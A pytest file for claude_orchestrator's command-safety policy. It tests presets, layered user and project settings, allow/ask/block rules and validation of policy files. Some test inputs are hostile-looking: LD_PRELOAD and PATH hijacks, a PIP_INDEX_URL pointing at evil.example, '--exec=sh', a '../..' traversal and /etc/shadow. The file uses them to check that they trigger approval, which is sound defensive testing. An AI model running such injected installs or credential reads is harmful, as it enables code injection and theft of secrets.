"""The policy: presets, layers of which the project's only tightens, rules with examples, and their file."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
from platformdirs import user_config_path

from claude_orchestrator.errors import ConfigError
from claude_orchestrator.safety.classifier import classify, judge
from claude_orchestrator.safety.operations import Decision, Effect, Operation, Verdict
from claude_orchestrator.safety.policy import PRESETS, RULES, Policy, load_policy
from claude_orchestrator.safety.policy_file import Layer, parse_layer, read_layer, seconds, user_file
from claude_orchestrator.safety.rows import operation_of
from claude_orchestrator.safety.rules import Rule, path_matcher

SAFE, ASK, BLOCKED = Decision.SAFE, Decision.REQUIRES_APPROVAL, Decision.BLOCKED
WORK = "/home/dev/work"


def layer(text: str) -> Layer:
    return parse_layer(text, "policy.toml")


@pytest.mark.timeout(20)
def test_no_file_of_a_project_keeps_a_hook_waiting(tmp_path: Path) -> None:
    place = tmp_path / "policy.toml"
    os.mkfifo(place)
    assert read_layer(str(place)) is not None
    place.unlink()
    place.symlink_to("/dev/zero")
    with pytest.raises(ConfigError, match="more than 262,144 bytes"):
        read_layer(str(place))
    place.unlink()
    place.write_text("a." * 100_000 + "b = 1\n")
    with pytest.raises(ConfigError, match="a line has more than 4,000 characters"):
        read_layer(str(place))
    place.write_text("a = [\n" + "[\n" * 100_000)
    with pytest.raises(ConfigError, match="nested too deeply"):
        read_layer(str(place))


def decided(policy: Policy, *effects: Effect, operation: Operation | None = None) -> Verdict:
    return judge(effects, operation or Operation("run", WORK, "…"), policy)


def make(*argv: str, rule: str = "A8", paths: tuple[str, ...] = ()) -> Effect:
    return Effect(rule, " ".join(argv) or rule, argv, paths=paths)


@pytest.mark.parametrize("rule", RULES)
def test_the_letter_of_a_rule_is_its_decision(rule: str) -> None:
    wanted = {"B": BLOCKED, "A": ASK, "S": SAFE}[rule[0]]
    assert decided(Policy(), Effect(rule, "x"))[:3] == (wanted, f"{rule}: x", rule)


def test_the_strictest_effect_decides_and_the_first_of_its_kind_gives_the_reason() -> None:
    effects = (Effect("S1", "a"), Effect("A1", "b"), Effect("A4", "c"))
    assert decided(Policy(), *effects)[:3] == (ASK, "A1: b", "A1")
    assert decided(Policy(), *effects, Effect("B1", "d"), Effect("B2", "e"))[:3] == (BLOCKED, "B1: d", "B1")
    assert decided(Policy()) == (SAFE, "S7: does nothing", "S7", (Effect("S7", "does nothing"),))


def test_presets() -> None:
    assert set(PRESETS) == {"read-only", "standard", "ci", "worktree"}
    for rule in ("S3", "S4", "S6"):
        assert decided(Policy("read-only"), Effect(rule, "x")).decision is ASK
        assert decided(Policy("ci"), Effect(rule, "x")).decision is SAFE
    assert decided(Policy("read-only"), Effect("S1", "x")).decision is SAFE
    for rule in RULES:
        assert decided(Policy("ci"), Effect(rule, "x")).decision is (SAFE if rule[0] == "S" else BLOCKED)
    with pytest.raises(KeyError):
        Policy("stricter")


def test_the_worktree_preset_frees_only_what_git_can_bring_back() -> None:
    tracked = {f"{WORK}/a.py", f"{WORK}/b.py", "/home/dev/other/c.py"}
    policy = Policy("worktree", tracked=tracked.__contains__)

    def ruling(rule: str, *paths: str) -> Decision:
        return decided(policy, Effect(rule, "x", paths=paths)).decision

    assert ruling("A1", f"{WORK}/a.py") is SAFE
    assert ruling("A1", f"{WORK}/a.py", f"{WORK}/b.py") is SAFE
    assert ruling("A6", f"{WORK}/a.py") is SAFE
    assert ruling("A1", f"{WORK}/a.py", f"{WORK}/new.py") is ASK
    assert ruling("A1", "/home/dev/other/c.py") is ASK
    assert ruling("A1", f"{WORK}/../other/c.py") is ASK
    assert ruling("A1") is ASK
    assert ruling("A6") is ASK
    assert ruling("A4", f"{WORK}/a.py") is ASK
    assert ruling("B1", f"{WORK}/a.py") is BLOCKED
    assert decided(Policy("worktree"), Effect("A1", "x", paths=(f"{WORK}/a.py",))).decision is ASK
    assert decided(Policy(tracked=lambda _: True), Effect("A1", "x", paths=(f"{WORK}/a.py",))).decision is ASK


def test_a_link_out_of_the_worktree_frees_nothing(tmp_path: Path) -> None:
    (tmp_path / "work").mkdir()
    (tmp_path / "out").mkdir()
    (tmp_path / "work/link").symlink_to("../out")
    policy = Policy("worktree", live=True, tracked=lambda _: True)
    operation = Operation("run", tmp_path / "work", "…")

    def ruling(path: str) -> Decision:
        effect = Effect("A1", "x", paths=(str(tmp_path / "work" / path),))
        return decided(policy, effect, operation=operation).decision

    assert ruling("a") is SAFE
    assert ruling("link") is SAFE, "the link goes, not what it points to"
    assert ruling("link/a") is ASK


# -- layers -------------------------------------------------------------------------------------------


def test_the_user_loosens_and_tightens() -> None:
    policy = load_policy(
        user=layer(
            """
            preset = "read-only"
            protected_branches = ["trunk"]
            [decisions]
            A3 = "safe"
            B4 = "ask"
            A2 = "block"
            S4 = "safe"
            [paths]
            secret = ["keys/**"]
            protected = ["deploy/**"]
            [gates]
            expire_after = "2h"
            """
        )
    )
    assert [decided(policy, Effect(rule, "x")).decision for rule in ("A3", "B4", "A2", "S4", "S3", "A1", "B1")] == [
        SAFE,
        ASK,
        BLOCKED,
        SAFE,
        ASK,
        ASK,
        BLOCKED,
    ]
    assert policy.protected_branches == ("trunk",)
    assert (policy.secret_paths, policy.protected_paths) == (("keys/**",), ("deploy/**",))
    assert policy.expire_after_s == 7200


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ('preset = "worktree"', 'preset = "worktree"'),
        ('[decisions]\nA3 = "safe"', '[decisions] A3 = "safe"'),
        ('[decisions]\nA2 = "ask"', '[decisions] A2 = "ask"'),
        ('[decisions]\nB4 = "ask"', '[decisions] B4 = "ask"'),
        ("[mcp.github]\ntrusted = true", "[mcp.github] trusted = true"),
        ('[mcp.github.tools]\nlist = "safe"', '[mcp.github.tools] list = "safe"'),
        ('[mcp.local.tools]\nwrite = "ask"', '[mcp.local.tools] write = "ask"'),
        ('[gates]\nexpire_after = "3h"', "[gates] expire_after"),
        ('[gates]\nexpire_after = "never"', "[gates] expire_after"),
        ('[[rule]]\ndecision = "allow"\nargv = ["make", "deploy"]', "rule 1 (allow make deploy)"),
    ],
)
def test_what_a_project_would_loosen_is_reported_and_ignored(line: str, said: str) -> None:
    user = layer(
        '[decisions]\nA2 = "block"\n[mcp.local]\ntrusted = true\n[mcp.local.tools]\nwrite = "block"\n'
        '[gates]\nexpire_after = "2h"'
    )
    without = load_policy(user=user)
    policy = load_policy(user=user, project=parse_layer(line, "project.toml"))
    assert policy.ignored == (f"project.toml: {said} would loosen the policy, which a project cannot: ignored",)
    assert policy.table == without.table
    assert (policy.preset, policy.expire_after_s) == ("standard", 7200)
    assert policy.trusted_servers == {"local"}
    assert [rule.key() for rule in policy.rules] == [rule.key() for rule in without.rules]


def test_a_project_tightens() -> None:
    user = layer(
        '[decisions]\nA3 = "safe"\n[mcp.local]\ntrusted = true\n[[rule]]\ndecision = "allow"\nargv = ["make", "x"]'
    )
    project = layer(
        """
        preset = "read-only"
        protected_branches = ["production"]
        [decisions]
        A3 = "ask"
        A2 = "block"
        [paths]
        protected = ["deploy/**"]
        [mcp.local]
        trusted = false
        [mcp.other.tools]
        go = "block"
        [gates]
        expire_after = "1d"
        [[rule]]
        decision = "block"
        argv = ["make", "..."]
        """
    )
    policy = load_policy(user=user, project=project)
    assert policy.ignored == ()
    assert [policy.table[rule] for rule in ("A3", "A2", "S4", "S1")] == [ASK, BLOCKED, ASK, SAFE]
    assert policy.protected_branches == ("main", "master", "release/*", "production")
    assert policy.protected_paths == ("deploy/**",)
    assert policy.trusted_servers == frozenset()
    assert decided(policy, Effect("A8", "x"), operation=Operation("mcp", WORK, "other.go")).decision is BLOCKED
    assert policy.expire_after_s == 86400
    assert decided(policy, make("make", "x")).decision is BLOCKED
    nobody = load_policy("worktree", user=user, project=layer('preset = "ci"'), tracked=lambda _: True)
    assert decided(nobody, Effect("A2", "x")).decision is BLOCKED
    assert decided(nobody, Effect("A3", "x")).decision is SAFE, "the user has said so"


def test_standard_means_worktree_in_a_worktree() -> None:
    assert load_policy("worktree", user=layer('preset = "standard"')).preset == "worktree"
    assert load_policy("worktree", user=layer('preset = "read-only"')).preset == "read-only"
    assert load_policy("worktree", project=layer('preset = "standard"')).preset == "worktree"


def test_the_digest_tells_policies_apart() -> None:
    texts = ["", '[decisions]\nA3 = "block"', '[[rule]]\ndecision = "ask"\nargv = ["x"]', "[mcp.a]\ntrusted = true"]
    digests = [load_policy(user=layer(text)).digest for text in texts]
    assert len(set(digests)) == len(texts)
    assert digests[0] == Policy().digest
    assert Policy(live=True).digest != Policy().digest


# -- rules --------------------------------------------------------------------------------------------


def ruled(text: str, *effects: Effect, operation: Operation | None = None) -> Decision:
    return decided(load_policy(user=layer(text)), *effects, operation=operation).decision


def test_an_allowed_command_is_safe_and_nothing_beside_it() -> None:
    allow = '[[rule]]\ndecision = "allow"\nargv = ["make", "deploy*"]'
    assert ruled(allow, make("make", "deploy-staging")) is SAFE
    assert ruled(allow, make("make", "deploy-staging", "x")) is ASK
    assert ruled(allow, make("make", "clean")) is ASK
    assert ruled(allow, make("/tmp/make", "deploy")) is ASK
    assert ruled(allow, make("make", "deploy"), make("rm", "x", rule="A1")) is ASK
    assert ruled(allow, make("make", "deploy"), Effect("A4", "writes /etc/x", paths=("/etc/x",))) is ASK
    assert ruled(allow, make("make", "deploy", rule="B5")) is BLOCKED


def test_an_allowed_command_is_nothing_that_its_words_do_not_show() -> None:
    allow = '[[rule]]\ndecision = "allow"\nargv = ["pip", "install", "requests"]'
    policy = load_policy(user=layer(allow))

    def asked(line: str) -> Decision:
        return classify(operation_of({"op": line, "cwd": "/work/p", "workspace": "/work/p"}), policy).decision

    assert asked("pip install requests") is SAFE
    for before in ("LD_PRELOAD=./x.so", "PATH=.:$PATH", "PIP_INDEX_URL=http://evil.example"):
        assert asked(f"{before} pip install requests") is ASK
    code = '[[rule]]\ndecision = "allow"\nargv = ["python3", "-"]'
    assert ruled(code, make("python3", "-", rule="A9")) is ASK


def test_the_rest_of_a_vector_and_words_that_a_wildcard_never_stands_for() -> None:
    rest = '[[rule]]\ndecision = "allow"\nargv = ["make", "deploy", "..."]'
    assert ruled(rest, make("make", "deploy")) is SAFE
    assert ruled(rest, make("make", "deploy", "a", "b")) is SAFE
    star = '[[rule]]\ndecision = "allow"\nargv = ["tool", "*"]'
    assert ruled(star, make("tool", "x")) is SAFE
    assert ruled(star, make("tool", "--exec=sh")) is ASK
    assert ruled(star, make("tool", "a/../../x")) is ASK


def test_a_rule_that_asks_or_blocks_fits_safe_commands_and_programs_by_path() -> None:
    block = '[[rule]]\ndecision = "block"\nargv = ["npm", "..."]\nreason = "we use pnpm"'
    assert ruled(block, make("npm", "test", rule="S3")) is BLOCKED
    assert ruled(block, make("/usr/bin/npm", "test", rule="S3")) is BLOCKED
    policy = load_policy(user=layer(block))
    said = decided(policy, make("npm", "test", rule="S3")).reason
    assert said == "S3: npm test (policy.toml, rule 1: block npm ...: we use pnpm)"
    assert ruled('[[rule]]\ndecision = "ask"\nargv = ["npm"]', make("npm", rule="B1")) is BLOCKED


def test_the_strictest_of_the_matching_rules_wins_whatever_the_order() -> None:
    rules = [
        '[[rule]]\ndecision = "allow"\nargv = ["make", "..."]',
        '[[rule]]\ndecision = "block"\nargv = ["make", "x"]',
    ]
    for text in ("\n".join(rules), "\n".join(reversed(rules))):
        assert ruled(text, make("make", "x")) is BLOCKED
        assert ruled(text, make("make", "y")) is SAFE


def test_what_is_not_known_is_not_allowed() -> None:
    unknown = "\U000f0005"
    rest = '[[rule]]\ndecision = "allow"\nargv = ["make", "..."]'
    assert ruled(rest, make("make", unknown)) is ASK
    assert ruled(rest.replace("allow", "block"), make("make", unknown)) is BLOCKED
    path = '[[rule]]\ndecision = "allow"\npath = "build/**"\neffect = "A1"'
    assert ruled(path, Effect("A1", "x", paths=(f"{WORK}/build/{unknown}",))) is ASK
    policy = Policy("worktree", tracked=lambda _: True)
    assert decided(policy, Effect("A1", "x", paths=(f"{WORK}/{unknown}",))).decision is ASK


def test_rules_for_paths() -> None:
    allow = '[[rule]]\ndecision = "allow"\npath = "build/**"\neffect = "A1"'
    assert ruled(allow, Effect("A1", "x", paths=(f"{WORK}/build/a/b",))) is SAFE
    assert ruled(allow, Effect("A1", "x", paths=(f"{WORK}/build/a", f"{WORK}/src"))) is ASK
    assert ruled(allow, Effect("A4", "x", paths=(f"{WORK}/build/a",))) is ASK
    assert ruled(allow, Effect("A1", "x")) is ASK
    block = '[[rule]]\ndecision = "block"\npath = "migrations/*"'
    assert ruled(block, Effect("S4", "x", paths=(f"{WORK}/src", f"{WORK}/migrations/1"))) is BLOCKED
    assert ruled(block, Effect("S4", "x", paths=(f"{WORK}/migrations/1/2",))) is SAFE


def test_an_allowed_path_is_where_it_really_is(tmp_path: Path) -> None:
    (tmp_path / "build").symlink_to("/usr")
    policy = load_policy(user=layer('[[rule]]\ndecision = "allow"\npath = "build/**"\neffect = "A1"'), live=True)
    effect = Effect("A1", "x", paths=(f"{tmp_path}/build/a",))
    assert decided(policy, effect, operation=Operation("run", tmp_path, "…")).decision is ASK


def test_rules_for_tools_leave_commands_and_files_alone() -> None:
    allow = '[[rule]]\ndecision = "allow"\ntool = "github.create_*"'
    call = Operation("mcp", WORK, "github.create_issue")
    assert ruled(allow, Effect("A8", "x"), operation=call) is SAFE
    assert ruled(allow, Effect("A8", "x"), operation=Operation("tool", WORK, "mcp__github__create_issue")) is SAFE
    assert ruled(allow, Effect("A8", "x"), operation=Operation("mcp", WORK, "github.delete_repo")) is ASK
    assert ruled(allow, Effect("A8", "x", ("rm", "x")), operation=call) is ASK
    assert ruled(allow, Effect("A5", "x", paths=("/etc/shadow",)), operation=call) is ASK


@pytest.mark.parametrize(
    "argv",
    [
        ["git", "..."],
        ["git", "push", "..."],
        ["git"],
        ["git", "*"],
        ["/usr/bin/git", "..."],
        ["python", "..."],
        ["python3.11", "..."],
        ["python", "-c", "*"],
        ["python", "*"],
        ["bash", "..."],
        ["bash", "-c", "*"],
        ["sh", "x", "*"],
        ["env", "..."],
        ["env", "X=1", "*"],
        ["sudo", "make", "*"],
        ["node", "..."],
        ["uv", "run", "..."],
        ["npx", "*"],
        ["docker", "run", "*"],
        ["xargs", "..."],
        ["*"],
        ["..."],
        ["m*", "x"],
        ["timeout", "5", "..."],
    ],
)
def test_what_can_do_anything_is_never_allowed_in_general(argv: list[str]) -> None:
    with pytest.raises(ValueError, match="allow"):
        Rule(SAFE, tuple(argv))
    Rule(ASK, tuple(argv))
    Rule(BLOCKED, tuple(argv))


@pytest.mark.parametrize(
    "argv",
    [
        ["git", "push", "origin", "feature/*"],
        ["git", "fetch"],
        ["python", "manage.py", "migrate", "*"],
        ["bash", "-c", "make deploy"],
        ["sudo", "make", "install"],
        ["python", "tools/release.py"],
        ["make", "..."],
    ],
)
def test_what_is_spelled_out_can_be_allowed(argv: list[str]) -> None:
    Rule(SAFE, tuple(argv))


@pytest.mark.parametrize(
    ("pattern", "path", "fits"),
    [
        ("build/**", "build", True),
        ("build/**", "build/a/b", True),
        ("build/**", "builds", False),
        ("*.py", "a.py", True),
        ("*.py", "a/b.py", False),
        ("**/*.py", "a/b/c.py", True),
        ("**/*.py", "c.py", True),
        ("a[0-9].txt", "a1.txt", True),
        ("a[!0-9].txt", "a1.txt", False),
        ("a?c", "abc", True),
        ("a?c", "a/c", False),
        ("a.c", "abc", False),
    ],
)
def test_globs_of_paths(pattern: str, path: str, fits: bool) -> None:
    assert path_matcher(pattern, "/we[i]rd", "/home/dev")(f"/we[i]rd/{path}") is fits


def test_globs_of_paths_elsewhere() -> None:
    assert path_matcher("~/notes/**", WORK, "/home/dev")("/home/dev/notes/a")
    assert path_matcher("/srv/*", WORK, "/home/dev")("/srv/a")
    assert not path_matcher("/srv/*", WORK, "/home/dev")(f"{WORK}/srv/a")


# -- the file -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("preset = ", "Invalid value"),
        ('preset = "strict"', "preset has no 'strict': choose from worktree, standard, read-only, ci"),
        ('prest = "ci"', "unknown key 'prest' (did you mean 'preset'?)"),
        ('[decisions]\nA33 = "ask"', "[decisions] has no 'A33' (did you mean 'A3'?)"),
        ('[decisions]\nA3 = "aks"', "[decisions] A3 has no 'aks' (did you mean 'ask'?)"),
        ('[decisions]\nB1 = "safe"', '[decisions] B1 = "safe" is impossible'),
        ('[decisions]\nA0 = "safe"', '[decisions] A0 = "safe" is impossible'),
        ("decisions = 1", "[decisions] has to be a table"),
        ("protected_branches = 1", "protected_branches is a list of texts, not 1"),
        ("[paths]\nsecrets = []", "[paths] unknown key 'secrets' (did you mean 'secret'?)"),
        ("[mcp]\nx = 1", "[mcp.x] has to be a table"),
        ('[mcp.x]\ntrusted = "yes"', "[mcp.x] trusted is true or false, not 'yes'"),
        ("[mcp.x]\ntrustd = true", "[mcp.x] unknown key 'trustd' (did you mean 'trusted'?)"),
        ('[mcp.x.tools]\na = "allow"', "[mcp.x.tools] a has no 'allow'"),
        ('[gates]\nexpire_after = "2 hours"', "[gates] expire_after is a time such as"),
        ("rule = 1", "rules are written as [[rule]]"),
        ('[[rule]]\nargv = ["x"]', "rule 1: decision is missing: choose from allow, ask, block"),
        ('[[rule]]\ndecision = "deny"\nargv = ["x"]', "rule 1: decision has no 'deny'"),
        ('[[rule]]\ndecision = "ask"', "rule 1 needs one of argv, tool and path"),
        ('[[rule]]\ndecision = "ask"\nargv = ["x"]\ntool = "y"', "rule 1 needs one of argv, tool and path"),
        ('[[rule]]\ndecision = "ask"\nargv = []', "rule 1: argv is empty"),
        ('[[rule]]\ndecision = "ask"\nargv = ["x", "...", "y"]', "nothing can follow it"),
        ('[[rule]]\ndecision = "allow"\nargv = ["git", "..."]', "rule 1: 'git' can do anything"),
        ('[[rule]]\ndecision = "allow"\ntool = "Bash"', "rule 1: 'Bash' can do anything"),
        ('[[rule]]\ndecision = "allow"\npath = "x"', "rule 1: an allow for a path needs one effect"),
        ('[[rule]]\ndecision = "allow"\npath = "x"\neffect = "B1"', "rule 1: an allow for a path needs one effect"),
        ('[[rule]]\ndecision = "ask"\nargv = ["x"]\nmatch = ["y"]', "(ask x): does not match its example 'y' in match"),
        (
            '[[rule]]\ndecision = "ask"\nargv = ["x"]\nnot_match = ["x"]',
            "(ask x): matches its example 'x' in not_match",
        ),
        ('[[rule]]\ndecision = "ask"\nargv = ["x"]\nmatch = ["\'"]', "is no command"),
        ('[[rule]]\ndecision = "ask"\ntool = "a.*"\nmatch = ["b.c"]', "does not match its example 'b.c'"),
        ('[[rule]]\ndecision = "ask"\npath = "a/*"\nmatch = ["b"]', "does not match its example 'b'"),
    ],
)
def test_a_wrong_file_is_refused_with_the_place(text: str, said: str) -> None:
    with pytest.raises(ConfigError) as error:
        layer(text)
    assert str(error.value).startswith("policy.toml: ")
    assert said in str(error.value)


def test_examples_may_be_lists_and_paths() -> None:
    layer('[[rule]]\ndecision = "ask"\nargv = ["x", "a b"]\nmatch = [["x", "a b"], "x \'a b\'"]\nnot_match = ["x a b"]')
    layer('[[rule]]\ndecision = "ask"\npath = "a/**"\nmatch = ["a/b"]\nnot_match = ["/a/b"]')


@pytest.mark.parametrize(("text", "value"), [("90s", 90), ("30m", 1800), ("2h", 7200), ("1d", 86400)])
def test_times(text: str, value: float) -> None:
    assert seconds(text) == value


@pytest.mark.parametrize("text", ["", "0s", "h", "1.5h", "-1h", "1 h", "1w"])
def test_what_is_no_time(text: str) -> None:
    with pytest.raises(ValueError, match=f"^{re.escape(text)}$"):
        seconds(text)


def test_where_the_users_file_is(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    assert user_file({}) == str(user_config_path("claude-orchestrator", appauthor=False) / "policy.toml")
    monkeypatch.setenv("XDG_CONFIG_HOME", "/x")
    monkeypatch.delenv("CLAUDE_ORCHESTRATOR_POLICY", raising=False)
    assert user_file() == str(user_config_path("claude-orchestrator", appauthor=False) / "policy.toml")
    assert user_file({"CLAUDE_ORCHESTRATOR_POLICY": "~/p.toml"}) == str(Path("~/p.toml").expanduser())


def test_a_file_that_is_not_there_and_one_that_cannot_be_read(tmp_path: Path) -> None:
    assert read_layer(str(tmp_path / "none.toml")) is None
    with pytest.raises(ConfigError, match="there is no policy file"):
        read_layer(str(tmp_path / "none.toml"), must_exist=True)
    (tmp_path / "binary.toml").write_bytes(b"\xff\xfe")
    for bad in (tmp_path, tmp_path / "binary.toml"):
        with pytest.raises(ConfigError, match="cannot be read"):
            read_layer(str(bad))
